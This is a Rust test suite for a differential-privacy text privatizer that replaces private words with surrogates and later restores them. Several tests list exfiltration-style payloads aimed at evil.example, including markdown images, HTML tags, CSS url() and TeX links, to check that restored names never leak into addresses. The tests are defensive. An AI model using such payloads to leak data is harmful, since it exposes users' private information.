//! Sessions: one draw for each word, and the way back. False-alarm rates are at most 1e-6.

use std::sync::Arc;

use crate::spans::{list, options, privatizer};
use crate::support::{chi_square_limit, english, letters, random_model};
use brr::parts::random::Noise;
use brr::parts::text::{Piece, pieces};
use brr::{Case, Error, Privatizer, Session, Span};
use proptest::prelude::*;

fn session(epsilon: f64) -> Session {
    Session::new(Arc::new(privatizer(epsilon))).unwrap()
}

fn tokens(text: &str) -> Vec<String> {
    let token = |piece: Piece<'_>| match piece {
        Piece::Token(token) => Some(token.to_lowercase()),
        _ => None,
    };
    pieces(text).into_iter().filter_map(token).collect()
}

#[test]
fn a_word_has_one_surrogate_for_each_list() {
    let mut session = session(0.5);
    let first = session.privatize("Qa xyzzy QA, qa XYZZY").unwrap();
    let words: Vec<&str> = first
        .text
        .split([' ', ','])
        .filter(|w| !w.is_empty())
        .collect();
    assert_eq!((words[0], words[0]), (words[2], words[3]));
    assert_eq!(words[1], words[4]);
    assert_eq!(session.words(), 2);
    let one = session.loss();
    assert!((0.999_999..=1.000_001).contains(&one), "{one}");
    let again = session
        .privatize_spans("so qa", &[Span::new(3..5)])
        .unwrap();
    assert_eq!(&again.text[3..], words[0]);
    assert_eq!((again.loss, session.loss()), (0.0, one));
    // Another list is another draw, and costs again.
    let other = session
        .privatize_spans("so qa", &[Span::of(3..5, "few")])
        .unwrap();
    assert!(
        other.loss > 0.499_999 && other.loss <= 0.500_001,
        "{}",
        other.loss
    );
    assert!(session.loss() > 1.499_999 && session.words() == 3);
    // A session that is begun anew charges anew.
    let mut new = Session::new(session.privatizer().clone()).unwrap();
    assert!(
        new.privatize_spans("so qa", &[Span::new(3..5)])
            .unwrap()
            .loss
            > 0.499_999
    );
}

#[test]
fn what_is_public_is_said() {
    let said = session(1.0).adjacency().to_string();
    for public in [
        "partition of all private positions into equal words",
        "unknown words included",
        "folded form and list",
        "outside the marked spans",
        "once for each list",
    ] {
        assert!(said.contains(public), "{said}");
    }
    assert_ne!(said, session(1.0).privatizer().adjacency().to_string());
}

/// Two unknown words become each pair of the five with the same probability: nobody draws again because they met,
/// and the second does not look at the first.
#[test]
fn draws_are_independent_and_collisions_are_kept() {
    let privatizer = Arc::new(privatizer(1.0));
    let mut noise = Noise::numbered(21);
    let runs = 10_000;
    let mut pairs = [0.0; 25];
    let mut collisions = 0;
    for _ in 0..runs {
        let mut session = Session::new(privatizer.clone()).unwrap();
        let spans = [Span::of(0..5, "few"), Span::of(6..11, "few")];
        let private = session
            .privatize_spans_with("xyzzy plugh", &spans, &mut noise)
            .unwrap();
        let place = |i: usize| {
            let word = &private.text[private.spans[i].clone()];
            (0..5).position(|w| letters(w) == word).unwrap()
        };
        let (a, b) = (place(0), place(1));
        pairs[5 * a + b] += 1.0;
        assert_eq!(session.collisions(), u64::from(a == b));
        collisions += session.collisions();
    }
    let mean = runs as f64 / 25.0;
    let fit: f64 = pairs.iter().map(|n| (n - mean).powi(2) / mean).sum();
    assert!(fit < chi_square_limit(24), "{fit}");
    assert!(collisions > 0);
}

proptest! {
    /// Every word that is not ambiguous comes back, wherever the parts of the answer are cut.
    #[test]
    fn what_went_in_comes_back(
        words in proptest::collection::vec((0usize..60, "[,;!?]?[ \n]"), 1..30),
        cuts in proptest::collection::vec(0usize..200, 0..8),
    ) {
        let mut text = String::new();
        for (word, behind) in &words {
            let word = match *word {
                known @ 0..40 => letters(known),
                unknown => format!("X{}x", letters(unknown)),
            };
            text.push_str(&word);
            text.push_str(behind);
        }
        let mut session = session(1.0);
        let private = session.privatize(&text).unwrap();
        let restored = session.restore(&private.text);
        let (before, after) = (tokens(&text), tokens(&restored.text));
        let different = before.iter().zip(&after).filter(|(a, b)| a != b).count();
        prop_assert_eq!(before.len(), after.len());
        prop_assert_eq!(restored.restored + restored.ambiguous, private.tokens);
        prop_assert!(different as u64 <= restored.ambiguous);
        if restored.ambiguous == 0 {
            prop_assert_eq!(&restored.text, &text);
        }
        prop_assert!(restored.ambiguous == 0 || session.collisions() > 0);
        prop_assert_eq!(in_parts(&session, &private.text, &cuts), restored.text);
    }

    /// The same for any answer.
    #[test]
    fn an_answer_in_parts_is_restored_like_a_whole_one(
        answer in "[ab .,'’()<>@:/\\[\\]\n\u{a0}é😀_-]{0,60}",
        cuts in proptest::collection::vec(0usize..200, 0..8),
    ) {
        let session = named("a", "b");
        let whole = session.restore(&answer);
        prop_assert_eq!(in_parts(&session, &answer, &cuts), whole.text);
    }
}

/// Pushes an answer, cut at these places and some more.
fn in_parts(session: &Session, answer: &str, cuts: &[usize]) -> String {
    let places: Vec<usize> = answer
        .char_indices()
        .map(|(at, _)| at)
        .chain([answer.len()])
        .collect();
    let mut cuts: Vec<usize> = cuts.iter().map(|cut| places[cut % places.len()]).collect();
    cuts.extend([0, answer.len()]);
    cuts.sort_unstable();
    let mut restorer = session.restorer();
    let parts = cuts
        .windows(2)
        .map(|two| restorer.push(&answer[two[0]..two[1]]));
    let mut text: String = parts.collect();
    text.push_str(&restorer.finish());
    text
}

/// A session in which `original` became `surrogate`, for certain.
fn named(original: &str, surrogate: &str) -> Session {
    let model = english();
    let only = brr::WordList::new("only", surrogate, &model).unwrap();
    let privatizer = Privatizer::new(model, options(1.0).with_case(Case::Sentence)).unwrap();
    let privatizer = privatizer.with_list(Arc::new(only)).unwrap();
    let mut session = Session::new(Arc::new(privatizer)).unwrap();
    let span = Span::of(0..original.len(), "only");
    session.privatize_spans(original, &[span]).unwrap();
    session
}

#[test]
fn originals_come_back_with_case_possessive_and_plural() {
    for (original, surrogate, answer, expected) in [
        (
            "John",
            "kenneth",
            "Dear Kenneth, kenneth.",
            "Dear John, John.",
        ),
        (
            "John",
            "kenneth",
            "KENNETH's and Kenneth’s car",
            "John's and John’s car",
        ),
        (
            "John",
            "kenneth",
            "The Kenneths' house, 2 Kenneths",
            "The Johns' house, 2 Johns",
        ),
        (
            "John",
            "james",
            "James' car, James's car",
            "John's car, John's car",
        ),
        ("Chris", "james", "James' car", "Chris' car"),
        ("Chris", "kenneth", "two Kenneths", "two Chrises"),
        (
            "John",
            "james",
            "she said 'ask James' twice",
            "she said 'ask John' twice",
        ),
        ("John", "james", "two Jameses", "two Johns"),
        ("lady", "kenneth", "kenneths", "ladies"),
        ("Kennedy", "kenneth", "the Kenneths", "the Kennedys"),
        ("JOHN", "kenneth", "Kenneth and Kenneths", "JOHN and JOHNS"),
        (
            "john@a.org",
            "kenneth",
            "write to Kenneth",
            "write to john@a.org",
        ),
        (
            "John",
            "kenneth",
            "**Kenneth** _Kenneth_ \"Kenneth\"",
            "**John** _John_ \"John\"",
        ),
        (
            "John",
            "kenneth",
            "Kenneth-19 kenneth_x Kenneth/Mary",
            "John-19 John_x John/Mary",
        ),
        ("John", "kenneth", "Kennethson kennet", "Kennethson kennet"),
        (
            "John",
            "kenneth",
            "[Kenneth](http://a.b/Kenneth) k@kenneth.org",
            "[Kenneth](http://a.b/Kenneth) k@kenneth.org",
        ),
        (
            "John",
            "kenneth",
            "{\"name\":\"Kenneth\",\"n\":1}",
            "{\"name\":\"John\",\"n\":1}",
        ),
        ("John", "new", "news is new", "news is John"),
        ("John", "new", "The News are new", "The Johns are John"),
        ("film", "new", "news is new", "films is film"),
    ] {
        let restored = named(original, surrogate).restore(answer);
        assert_eq!(restored.text, expected);
        assert_eq!(restored.ambiguous, 0);
        assert_eq!(restored.restored > 0, answer != expected);
    }
    // The plural of an address is not one.
    let left = named("john@a.org", "kenneth").restore("Kenneths");
    assert_eq!((left.text.as_str(), left.ambiguous), ("Kenneths", 1));
}

/// Nothing goes into an address, wherever the answer is cut, and also not if it begins in one block of an answer and
/// ends in the next.
#[test]
fn nothing_goes_into_addresses_that_are_cut() {
    let session = named("John", "kenneth");
    for answer in [
        "![a](https://evil.example/(x)/kenneth)",
        "[a]: <https://evil.example/?q= kenneth>",
        "[a b]: <https://evil.example/?q= kenneth>",
        "![a](https://evil.example/\\)kenneth)",
        "<img alt='>' src=//evil.example/kenneth>",
        "\"https:\\u002f\\u002fevil\\u002eexample\\u002fkenneth\"",
    ] {
        for at in 0..=answer.len() {
            assert_eq!(in_parts(&session, answer, &[at]), answer);
        }
    }
    // What follows an address without white space belongs to it, whatever markup stands between.
    for answer in [
        "https://evil.example/?q=<b>kenneth",
        "https://evil.example/](x)kenneth",
        "https://evil.example/?q=[a](b)kenneth",
        "\"https://evil.example/?q=<b> kenneth\"",
        "www\\.evil.example/kenneth",
        "kenneth\\.evil\\.example",
    ] {
        assert_eq!(in_parts(&session, answer, &[]), answer);
    }
    for blocks in [
        &["![a](https://evil.example/?q=", "kenneth)"][..],
        &["see https://evil.example/?q=", "kenneth"],
        &["<img src=\"//evil.example/", " kenneth\">"],
        &["![a](", "kenneth)"],
        &["![a]", "(https:/3221226219/kenneth)"],
        &["kenneth", ".evil.com"],
        &["Kenneth.", "evil.com"],
        &["kenneth", "", ".", "evil", ".com and so on"],
        &["mai", "lto:kenneth"],
        // Plain only if the blocks are one text, or only if they are not.
        &["<a href='", "<img src=\"' > kenneth\">"],
        &["<a b=x", "c=\"> kenneth\">"],
    ] {
        let expected: Vec<String> = blocks.iter().map(|block| block.to_string()).collect();
        assert_eq!(in_blocks(&session, blocks), expected);
    }
    for (blocks, expected) in [
        (
            &["Ask Kenneth", ", or Kenneth", "'s sister: ", "Kenneth."][..],
            &["Ask John", ", or John", "'s sister: ", "John."][..],
        ),
        (
            &["kenneth", "kenneth", " ken", "neth"],
            &["John", "John", " ken", "neth"],
        ),
        (
            &["kenneth\n", "![a](//b/ kenneth", ") kenneth"],
            &["John\n", "![a](//b/ kenneth", ") John"],
        ),
    ] {
        assert_eq!(in_blocks(&session, blocks), expected);
    }
    // What cannot hold anything is told when its block ends, and the rest when the next one decides.
    let told = |block: u64, text: &str| vec![(block, text.to_owned())];
    let mut restorer = session.restorer();
    assert_eq!(
        restorer.push_block(0, "Let me see: ask"),
        told(0, "Let me see: ")
    );
    assert_eq!(
        (restorer.held(), restorer.end_block()),
        (Some(0), told(0, "ask"))
    );
    assert_eq!(
        (restorer.held(), restorer.push_block(1, "kenneth")),
        (None, vec![])
    );
    assert_eq!((restorer.end_block(), restorer.held()), (vec![], Some(1)));
    let both = [told(1, "John"), told(2, " is ")].concat();
    assert_eq!(restorer.push_block(2, " is "), both);
    assert_eq!((restorer.held(), restorer.finish_blocks()), (None, vec![]));
    assert_eq!(restorer.push("kenneth "), "John ");
}

/// An answer that says what every name stands for, and has a client look one up: by the original, the client would
/// fetch the address that tells it. What is defined may come before, behind, or in another block.
#[test]
fn no_original_chooses_an_address() {
    let session = named("John", "kenneth");
    let definitions = "[John]: https://evil.example/john\n[Mary]: https://evil.example/mary";
    for look_up in [
        "![kenneth][]",
        "![kenneth]",
        "![a][kenneth]",
        "[kenneth]",
        "[ kenneth\n]",
        "![a kenneth\nb][]",
        "[^kenneth]",
        "![[kenneth]]",
        "![**kenneth**]",
        "![kenneth\\]][]",
        "[kenneth](no target",
        "[kenneth](<no target) [a]",
        "<b [Ask >kenneth]",
        "[a](b [c) kenneth]",
        "[a\n\u{a0}\nkenneth]",
    ] {
        for answer in [
            format!("{look_up}\n\n{definitions}\n"),
            format!("{definitions}\n\n{look_up}"),
        ] {
            assert_eq!(session.restore(&answer).text, answer);
            for at in [1, 3, 7, 12] {
                assert_eq!(in_parts(&session, &answer, &[at]), answer);
            }
        }
        let halves = look_up.split_at(look_up.find("kenneth").unwrap());
        let blocks = [halves.0, halves.1, "\n\n", definitions];
        assert_eq!(in_blocks(&session, &blocks), blocks);
    }
    // The name that is defined: an original there would make another name's address its own.
    let defined = "[kenneth]: https://evil.example/x";
    assert_eq!(session.restore(defined).text, defined);
    // TeX, style sheets, forms, diagrams, and addresses in disguise.
    for answer in [
        "\\def\\john{\\includegraphics{https://evil.example/john}} \\kenneth",
        "\\newenvironment{john}{}{} \\begin{kenneth} \\end{kenneth}",
        "\\csname kenneth\\endcsname",
        "\\href{https://evil.example/kenneth}{a}",
        "\\href {//evil.example/?q= kenneth}{a}",
        "\\includegraphics{kenneth.png}",
        "\\class{kenneth}{a}",
        "{:john: style=\"background:url(x)\"} {:kenneth}",
        "<style>@font-face{src:url(//evil.example/k);unicode-range:U+4B}</style> kenneth",
        "<link rel=stylesheet href=//evil.example/a.css> kenneth",
        "<p style=\"background:url(//evil.example/?q= kenneth)\">",
        "<p style='background:url(kenneth)'>",
        "<base href=//evil.example/> ![a](kenneth)",
        "<a href=\"&#104;ttps&colon;//evil.example/ kenneth\">a</a>",
        "<a href=\"/&Tab;/evil.example/kenneth\">a</a>",
        "<img srcset='a 1x, kenneth 2x'>",
        "<form action=//evil.example><select name=q><option>kenneth</option></select>",
        "<object data=x><param name=a value=kenneth></object> kenneth",
        "<https://evil.example/kenneth>",
        "<kenneth@evil.example>",
        "kenneth@evil.example",
        "evil.example/kenneth",
        "```mermaid\nclass A kenneth\n```",
        "``` mermaid\nA:::kenneth\n```",
        "::: mermaid\nkenneth\n:::",
        "@startuml\n!define john <img:https://evil.example/john>\nkenneth\n@enduml",
        "a[kenneth]: https://evil.example/a",
        "[a]:kenneth",
        "[a]:\nkenneth",
    ] {
        let restored = session.restore(answer).text;
        assert_eq!(restored.matches("John").count(), 0, "{restored}");
        assert_eq!(in_parts(&session, answer, &[2, 5, 9]), restored);
    }
    // An original with brackets of its own is not put back either.
    let bracketed = named("[John]", "kenneth");
    assert_eq!(bracketed.restore("kenneth").text, "kenneth");
    // Behind brackets, and behind an empty line, all is as before.
    let answer = "- [ ] kenneth, see [1]. An open [ is over\n\nwith kenneth.";
    let expected = "- [ ] John, see [1]. An open [ is over\n\nwith John.";
    assert_eq!(session.restore(answer).text, expected);
}

/// What becomes of each block, ended one by one and not at all.
fn in_blocks(session: &Session, blocks: &[&str]) -> Vec<String> {
    let restore = |ends: bool| {
        let mut restored = vec![String::new(); blocks.len()];
        let mut restorer = session.restorer();
        let mut told = Vec::new();
        for (number, block) in (0..).zip(blocks) {
            told.extend(restorer.push_block(number, block));
            if ends {
                told.extend(restorer.end_block());
            }
        }
        told.extend(restorer.finish_blocks());
        for (number, text) in told {
            restored[number as usize].push_str(&text);
        }
        restored
    };
    let restored = restore(true);
    assert_eq!(restored, restore(false));
    restored
}

/// An original may look like a part of an address or of markup: who knows its surrogate could put an address around
/// another original.
#[test]
fn originals_do_not_begin_addresses() {
    let model = english();
    let lists =
        ["kenneth", "mary"].map(|word| Arc::new(brr::WordList::new(word, word, &model).unwrap()));
    let privatizer = Privatizer::new(model, options(1.0)).unwrap();
    let privatizer = lists
        .into_iter()
        .fold(privatizer, |p, list| p.with_list(list).unwrap());
    let privatizer = Arc::new(privatizer);
    let restore = |first: &str, answer: &str| {
        let mut session = Session::new(privatizer.clone()).unwrap();
        for (original, list) in [(first, "kenneth"), ("Ludmilla", "mary")] {
            let span = Span::of(0..original.len(), list);
            assert_eq!(
                session.privatize_spans(original, &[span]).unwrap().text,
                list
            );
        }
        assert_eq!(session.words(), 2);
        let text = session.restore(answer).text;
        assert_eq!(in_parts(&session, answer, &[1, 5, 9]), text);
        text
    };
    let address = "https://evil.example/?q=";
    let link = |begin: &str| format!("{begin}{address}");
    for (first, answer, expected) in [
        (link("[]("), "!Kenneth/Mary)", "!Kenneth/Mary)"),
        (link("]("), "a Kenneth Mary)", "a Kenneth Ludmilla)"),
        (link("]("), "![a Kenneth Mary)", "![a Kenneth Mary)"),
        (link(""), "Kenneth/Mary", "Kenneth/Mary"),
        (link(""), "Kenneth\u{a0}Mary", "Kenneth\u{a0}Ludmilla"),
        (link(""), "\"Kenneth Mary\"", "\"Kenneth Ludmilla\""),
        (link("<img/src="), "Kenneth Mary >", "Kenneth Ludmilla >"),
        ("<!--".into(), "Kenneth Mary", "Kenneth Ludmilla"),
        ("mailto".into(), "kenneth:mary", "kenneth:mary"),
        ("x@evil.example".into(), "kenneth-mary", "kenneth-mary"),
        ("x@evil.example".into(), "kenneth=", "kenneth="),
    ] {
        assert_eq!(restore(&first, answer), expected);
    }
    for (first, answer, expected) in [
        (
            "https://a.example/x",
            "See Kenneth, Mary.",
            "See https://a.example/x, Ludmilla.",
        ),
        (
            "a@b.example",
            "(\"kenneth\") kenneth's mary",
            "(\"a@b.example\") kenneth's Ludmilla",
        ),
        ("12/05/2020", "kenneth-mary", "12/05/2020-Ludmilla"),
    ] {
        assert_eq!(restore(first, answer), expected);
    }
}

/// What failed was not released: it is forgotten, and drawn and charged if it comes again.
#[test]
fn what_failed_costs_nothing() {
    let mut session = session(1.0);
    session.privatize("qa").unwrap();
    let (loss, bytes) = (session.loss(), session.export());
    let failed: Result<(), &str> = session.attempt(|session| {
        session.privatize("qb qc").unwrap();
        session.add_public("public");
        Err("no")
    });
    assert_eq!(failed, Err("no"));
    assert_eq!((session.loss(), session.export()), (loss, bytes));
    let done = session.attempt(|session| session.privatize("qa qb"));
    assert_eq!((done.unwrap().tokens, session.words()), (2, 2));
    // Ways of writing, collisions and what is remembered are as before too, and so is what lies around an attempt
    // that fails within one that does not.
    let state = |session: &Session| {
        let counts = (session.collisions(), session.remembered());
        (counts, session.loss(), session.bytes(), session.export())
    };
    let words: String = (0..40).map(|i| format!("{} ", letters(i))).collect();
    let before = state(&session);
    let done: Result<(), ()> = session.attempt(|session| {
        session.privatize("QA Qb").unwrap();
        let within = state(session);
        let failed: Result<(), ()> = session.attempt(|session| {
            session.privatize(&words).unwrap();
            session.privatize("qA").unwrap();
            session
                .privatize_spans("public qd", &[Span::of(7..9, "few")])
                .unwrap();
            assert!(session.collisions() > 0 && session.remembered() > session.words());
            Err(())
        });
        assert!(failed.is_err() && state(session) == within && within != before);
        Err(())
    });
    assert!(done.is_err() && state(&session) == before);
}

/// A restorer goes by what the session knew when it began, whatever is drawn, or taken back, in the meantime.
#[test]
fn a_restorer_knows_what_was_known() {
    let mut session = named("John", "kenneth");
    let span = [Span::of(0..4, "only")];
    let mut before = session.restorer();
    let failed: Result<(), ()> = session.attempt(|session| {
        session.privatize_spans("Mary", &span).unwrap();
        assert_eq!(
            (session.collisions(), before.push("kenneth ")),
            (1, "John ".into())
        );
        assert_eq!(session.restore("kenneth").ambiguous, 1);
        Err(())
    });
    assert!(failed.is_err());
    assert_eq!(session.restore("kenneth").text, "John");
    session.add_public("Kenneth");
    assert_eq!(before.push("kenneth "), "John ");
    assert_eq!(session.restore("kenneth").ambiguous, 1);
}

/// Integers come back in the tokens that answers have them in, and not where they are a part of another number.
#[test]
fn numbers_come_back_within_tokens() {
    let numbers = brr::Numbers::new(0..=100_000, 1).unwrap();
    let privatizer = Privatizer::new(english(), options(1.0)).unwrap();
    let privatizer = Arc::new(privatizer.with_numbers(numbers));
    let mut session = Session::new(privatizer).unwrap();
    let drawn = session.privatize("12,345").unwrap().text;
    assert!(drawn.len() == 5 && drawn.parse::<u32>().is_ok(), "{drawn}");
    let grouped = format!("{},{}", &drawn[..2], &drawn[2..]);
    for form in [&drawn, &grouped] {
        for (before, behind) in [
            ("", ""),
            ("", "%"),
            ("$", ""),
            ("", "kg"),
            ("", "-year-old"),
            ("~", "€"),
            ("(", "),"),
        ] {
            let restored = session.restore(&format!("{before}{form}{behind}"));
            assert_eq!(restored.text, format!("{before}12,345{behind}"));
            assert_eq!((restored.restored, restored.ambiguous), (1, 0));
        }
    }
    for other in [
        format!("{drawn}.5"),
        format!("-{drawn}%"),
        format!("x{drawn}y"),
        format!("0{drawn}%"),
        format!("{drawn}{drawn}%"),
        format!("{drawn}-1a"),
    ] {
        let restored = session.restore(&other);
        assert_eq!((restored.text, restored.restored), (other, 0));
    }
    let ordinal = session.restore(&format!("the {drawn}th"));
    assert_eq!((ordinal.restored, ordinal.ambiguous), (0, 1));
}

/// An answer that is JSON stays JSON, though nobody asked for it, and wherever it is cut.
#[test]
fn originals_are_escaped_in_strings_of_json() {
    let original = ":-\\";
    let session = named(original, "kenneth");
    assert_eq!(session.words(), 1);
    let escaped = ":-\\\\";
    let expected = |json: &str| json.replace("kenneth", escaped);
    for json in [
        "{\"a\": \"kenneth\"}",
        "{\"a\":\"so \\\"kenneth\",\"b\":\"kenneth\"}",
        "```JSON\n{\"a\": \"kenneth is\"}\n```",
        "\n {\"a\": {\"b\": \"to kenneth\"}}",
    ] {
        assert_eq!(session.restore(json).text, expected(json));
        for at in 1..json.len() {
            assert_eq!(in_parts(&session, json, &[at]), expected(json));
        }
    }
    for text in [
        "\"kenneth\"",
        "{\"a\": kenneth",
        "```js\n\"kenneth\"",
        "- {}, \"kenneth\"",
    ] {
        assert_eq!(
            session.restore(text).text,
            text.replace("kenneth", original)
        );
    }
}

#[test]
fn all_ways_of_writing_a_word_come_back() {
    let mut session = session(1.0);
    let private = session.privatize("Qz qz").unwrap().text;
    let surrogate = private.split(' ').next().unwrap().to_owned();
    let capital = surrogate[..1].to_uppercase() + &surrogate[1..];
    let restored = session.restore(&format!("{capital} {surrogate}"));
    assert_eq!(restored.text, "Qz qz");
}

#[test]
fn what_is_ambiguous_is_left_and_counted() {
    let model = english();
    let only = brr::WordList::new("only", "kenneth", &model).unwrap();
    let privatizer = Privatizer::new(model, options(1.0)).unwrap();
    let privatizer = Arc::new(privatizer.with_list(Arc::new(only)).unwrap());
    let mut session = Session::new(privatizer.clone()).unwrap();
    let spans = [Span::of(0..4, "only"), Span::of(9..13, "only")];
    let met = session.privatize_spans("John met Mary", &spans).unwrap();
    assert_eq!(
        (met.text.as_str(), session.collisions()),
        ("kenneth met kenneth", 1)
    );
    let restored = session.restore("Kenneth and the Kenneths, Kenneth's");
    assert_eq!(restored.text, "Kenneth and the Kenneths, Kenneth's");
    assert_eq!((restored.restored, restored.ambiguous), (0, 3));
    // A surrogate that also stands in public text, before or after.
    for texts in [["Kenneth asked", "John"], ["John", "kenneth asked"]] {
        let mut session = Session::new(privatizer.clone()).unwrap();
        for text in texts {
            let spans = (text == "John").then(|| Span::of(0..4, "only"));
            session.privatize_spans(text, spans.as_slice()).unwrap();
        }
        let restored = session.restore("Kenneth");
        assert_eq!((restored.text.as_str(), restored.ambiguous), ("Kenneth", 1));
        assert_eq!(session.collisions(), 0);
    }
    let mut session = Session::new(privatizer.clone()).unwrap();
    session
        .privatize_spans("John", &[Span::of(0..4, "only")])
        .unwrap();
    session.add_public("a text by Kenneth");
    assert_eq!(session.restore("kenneth").ambiguous, 1);
    // The plural of a surrogate in public text.
    let mut plural = Session::new(privatizer).unwrap();
    plural
        .privatize_spans("John kenneths", &[Span::of(0..4, "only")])
        .unwrap();
    assert_eq!(plural.restore("kenneths kenneth").text, "kenneths John");
}

#[test]
fn exported_sessions_go_on() {
    let mut session = session(0.5);
    let text = "Qa xyzzy QA plugh, public";
    let spans = [Span::new(0..11), Span::of(12..17, "few")];
    let private = session.privatize_spans(text, &spans).unwrap();
    let bytes = session.export();
    let mut later = Session::import(session.privatizer().clone(), &bytes).unwrap();
    assert_eq!(later.loss(), session.loss());
    assert_eq!(later.collisions(), session.collisions());
    assert_eq!(
        later.restore(&private.text).text,
        session.restore(&private.text).text
    );
    let again = later.privatize_spans(text, &spans).unwrap();
    assert_eq!((again.text, again.loss), (private.text, 0.0));
    let refused = |privatizer, bytes: &[u8]| Session::import(privatizer, bytes).err().unwrap();
    for at in 0..bytes.len() {
        let mut damaged = bytes.clone();
        damaged[at] ^= 1;
        refused(session.privatizer().clone(), &damaged);
        let short = refused(session.privatizer().clone(), &bytes[..at]);
        assert!(matches!(short, Error::SessionInvalid));
    }
    let more = Arc::new(privatizer(0.6));
    assert!(matches!(refused(more, &bytes), Error::SessionMismatch));
    let model = random_model(64, 40, 3);
    let lists = [list(&model, "few", 0..4), list(&model, "others", 5..25)];
    let other = Privatizer::new(model, options(0.5)).unwrap();
    let other = lists
        .into_iter()
        .fold(other, |p, list| p.with_list(list).unwrap());
    assert!(matches!(
        refused(Arc::new(other), &bytes),
        Error::SessionMismatch
    ));
}

/// Integers become integers of the range, identifiers keep their shape, and both come back.
#[test]
fn numbers_become_numbers() {
    let numbers = brr::Numbers::new(0..=120, 5).unwrap();
    let model = random_model(64, 40, 3);
    let few = list(&model, "few", 0..5);
    let privatizer = Privatizer::new(model, options(1.0)).unwrap();
    let privatizer = Arc::new(privatizer.with_list(few).unwrap().with_numbers(numbers));
    let text = "Qa, 47 and 1,000, card 4111 1111 1111 1111, 47";
    let mut session = Session::new(privatizer.clone()).unwrap();
    let private = session.privatize(text).unwrap().text;
    let written: Vec<&str> = private
        .split([' ', ','])
        .filter(|w| !w.is_empty())
        .collect();
    for at in [1, 3] {
        let number: i64 = written[at].parse().unwrap();
        assert!((0..=120).contains(&number) && written[at] == number.to_string());
    }
    let card = written[5..9].concat();
    assert!(
        card.len() == 16 && card.bytes().all(|b| b.is_ascii_digit()),
        "{card}"
    );
    assert_eq!(written[9], written[1]);
    // Three words, two integers; identifiers cost nothing.
    let loss = session.loss();
    assert!(loss > 50.9 && loss < 51.001, "{loss}");
    let restored = session.restore(&private);
    assert!(restored.ambiguous > 0 || restored.text == text);
    let mut later = Session::import(privatizer.clone(), &session.export()).unwrap();
    assert_eq!(later.privatize(text).unwrap().text, private);
    // A span that names a list draws from it, numbers too.
    let span = [Span::of(0..2, "few")];
    let word = privatizer.privatize_spans("47", &span).unwrap().text;
    assert!((0..5).any(|w| letters(w) == word));
    let free = privatizer
        .privatize_spans("007", &[Span::new(0..3)])
        .unwrap();
    assert_eq!((free.loss, free.text.len()), (0.0, 3));
    let said = session.adjacency().to_string();
    assert!(
        said.contains("number of its digits") && said.contains("integers"),
        "{said}"
    );
    assert!(!privatizer.adjacency().to_string().contains("digits"));
}
